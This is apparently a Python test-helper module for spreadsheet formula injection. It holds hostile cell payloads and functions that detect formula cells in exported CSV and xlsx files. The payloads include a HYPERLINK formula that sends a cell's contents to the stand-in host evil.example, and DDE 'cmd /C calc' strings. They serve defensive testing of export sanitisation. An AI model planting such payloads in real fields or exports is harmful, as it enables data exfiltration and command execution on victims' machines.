"""Hostile spreadsheet cells and the checks that an export neutralised them (formula injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

from openpyxl import Workbook, load_workbook

LINK = '=HYPERLINK("http://evil.example/?"&B2,"clic")'
"""What a stranger types as a user name at the login form (issue 16, item 5)."""

HOSTILE = (
    LINK,
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
"""One payload per character a spreadsheet starts a formula with (OWASP's list)."""

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_cells(text: str, delimiter: str = ",") -> Iterator[str]:
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter):
        yield from row


def dangerous_csv_cells(text: str, delimiter: str = ",") -> list[str]:
    """Cells a spreadsheet would run as a formula (a number such as -3.5 is not one)."""
    found = []
    for cell in csv_cells(text, delimiter):
        if not cell.startswith(STARTS):
            continue
        try:
            float(cell.replace(",", "."))
        except ValueError:
            found.append(cell)
    return found


def load(data: bytes | Path) -> Workbook:
    return load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)


def formula_cells(book: Workbook) -> dict[tuple[str, str], str]:
    """Every formula of the workbook, by (sheet, coordinate)."""
    return {
        (sheet.title, cell.coordinate): str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


def text_values(book: Workbook) -> set[str]:
    """Every text cell's value."""
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "s" and isinstance(cell.value, str)
    }
